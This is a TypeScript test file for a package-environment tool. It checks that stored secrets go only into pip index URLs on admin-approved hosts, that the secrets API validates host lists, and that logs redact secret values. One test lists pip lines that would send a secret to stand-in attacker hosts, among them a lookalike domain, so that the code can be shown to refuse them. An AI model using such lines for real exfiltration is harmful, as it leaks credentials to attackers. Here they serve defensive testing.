import { randomBytes } from "node:crypto";
import { join } from "node:path";
import { makeTempDir } from "@mlenv/test-utils";
import { describeOnEachDatabase } from "@mlenv/test-utils/fixtures";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startWheelTestServer } from "../../test/wheelTestServer";
import { openStore } from "../server";
import type { Store } from "../store/types";
import type { WheelCatalog } from "./catalog";
import { secretEnvironment } from "./resolve";
import { redactionForms } from "./secretPolicy";
import { openWheelCatalog } from "./sqlCatalog";

/** `${MLENV_SECRET_<name>}` as written in a pip block. */
const ref = (name: string) => ["$", `{MLENV_SECRET_${name}}`].join("");

describeOnEachDatabase("secrets go only to the hosts an admin allowed", "secret_hosts", ({ database }) => {
  const dir = makeTempDir("mlenv-secret-hosts-");
  let store: Store;
  let catalog: WheelCatalog;
  let ws: string;
  beforeAll(async () => {
    const db = database();
    store = await openStore({ dataDir: dir.path, ...(db ? { database: db } : {}) });
    catalog = openWheelCatalog(db ? { postgresUrl: db } : { sqliteFile: join(dir.path, "mlenv.db") });
    ws = (await store.createWorkspace("corp", new Date().toISOString())).id;
    await catalog.putSecret({ workspaceId: ws, name: "CORP", value: "s3cret-value-1234", now: "t" });
    await catalog.setSecretHosts(ws, "CORP", ["pypi.corp.test", "https://mirror.corp.test/simple/"]);
    await catalog.putSecret({ workspaceId: ws, name: "NOWHERE", value: "other-value-5678", now: "t" });
  });
  afterAll(async () => {
    await catalog?.close();
    await store?.close();
    dir.cleanup();
  });
  const env = (lines: string[]) => secretEnvironment(lines, { catalog, workspaceId: ws });
  const code = (p: Promise<unknown>) =>
    p.then(
      () => "ok",
      (e: { code?: string }) => e.code,
    );

  it("substitutes a secret into an index URL on an allowed host or prefix", async () => {
    expect(await env([`--extra-index-url https://ci:${ref("CORP")}@pypi.corp.test/simple/`, "x==1"])).toEqual(
      {
        MLENV_SECRET_CORP: "s3cret-value-1234",
      },
    );
    expect(await code(env([`--index-url https://ci:${ref("CORP")}@mirror.corp.test/simple/`]))).toBe("ok");
  });

  it("refuses it for any other host, path or scheme (the writer's exfiltration)", async () => {
    for (const line of [
      `--extra-index-url http://ci:${ref("CORP")}@attacker.test/`,
      `--extra-index-url https://ci:${ref("CORP")}@pypi.corp.test.attacker.test/simple/`,
      `--index-url https://ci:${ref("CORP")}@mirror.corp.test/other/`,
      `--extra-index-url ftp://ci:${ref("CORP")}@pypi.corp.test/`,
      `--extra-index-url https://ci:${ref("NOWHERE")}@pypi.corp.test/simple/`,
    ]) {
      expect(await code(env([line])), line).toBe("E_WHEEL_SECRET_NOT_ALLOWED");
    }
  });

  it("refuses a secret in a direct requirement URL or any other place", async () => {
    for (const line of [
      `corp-lib @ https://ci:${ref("CORP")}@pypi.corp.test/files/corp_lib-1.0-py3-none-any.whl`,
      `https://pypi.corp.test/corp_lib-1.0-py3-none-any.whl?token=${ref("CORP")}`,
      `--trusted-host ${ref("CORP")}`,
    ]) {
      expect(await code(env([line])), line).toBe("E_WHEEL_SECRET_NOT_ALLOWED");
    }
  });
});

describe("secret allowed hosts over HTTP", () => {
  it("stores them with the secret, lists them, and refuses a malformed entry", async () => {
    const srv = await startWheelTestServer();
    try {
      const put = (body: unknown) =>
        fetch(`${srv.url}/api/v1/secrets/CORP`, {
          method: "PUT",
          headers: { authorization: `Bearer ${srv.adminToken}`, "content-type": "application/json" },
          body: JSON.stringify(body),
        });
      const ok = await put({
        value: "v-123456789",
        allowedHosts: ["PyPI.corp.test", "https://m.corp.test/simple/"],
      });
      expect(ok.status).toBe(200);
      expect(((await ok.json()) as { allowedHosts: string[] }).allowedHosts).toEqual([
        "pypi.corp.test",
        "https://m.corp.test/simple/",
      ]);
      const list = (await (
        await fetch(`${srv.url}/api/v1/secrets`, { headers: { authorization: `Bearer ${srv.adminToken}` } })
      ).json()) as { items: { name: string; allowedHosts: string[] }[] };
      expect(list.items).toEqual([
        expect.objectContaining({
          name: "CORP",
          allowedHosts: ["pypi.corp.test", "https://m.corp.test/simple/"],
        }),
      ]);
      for (const bad of ["https://user:pw@h.test/", "h.test/path", "", "*"]) {
        const res = await put({ value: "v-123456789", allowedHosts: [bad] });
        expect(res.status, bad).toBe(400);
      }
    } finally {
      await srv.close();
    }
  });
});

describe("redaction of a secret in logs", () => {
  it("hides the value, its percent-encoding, its base64 inside a Basic header and fragments of it", () => {
    const value = `p@ss/w:rd+${randomBytes(9).toString("base64url")}`;
    const forms = redactionForms(value);
    const redact = (text: string) => forms.reduce((t, f) => t.split(f).join("***"), text);
    const leaks = [
      `url https://ci:${value}@pypi.corp.test/`,
      `url https://ci:${encodeURIComponent(value)}@pypi.corp.test/`,
      `Authorization: Basic ${Buffer.from(`ci:${value}`).toString("base64")}`,
      `Authorization: Basic ${Buffer.from(`user:${value}`).toString("base64")}`,
      `truncated: ${value.slice(3, 15)}`,
    ];
    for (const line of leaks) {
      const out = redact(line);
      expect(out, line).toContain("***");
      expect(out).not.toContain(value);
      expect(out).not.toContain(encodeURIComponent(value));
      // no run of 8 characters of the value (or of its base64) survives
      for (let i = 0; i + 8 <= value.length; i++) expect(out).not.toContain(value.slice(i, i + 8));
      const b64 = Buffer.from(value).toString("base64");
      for (let i = 4; i + 12 <= b64.length - 4; i += 4) expect(out).not.toContain(b64.slice(i, i + 12));
    }
  });
});
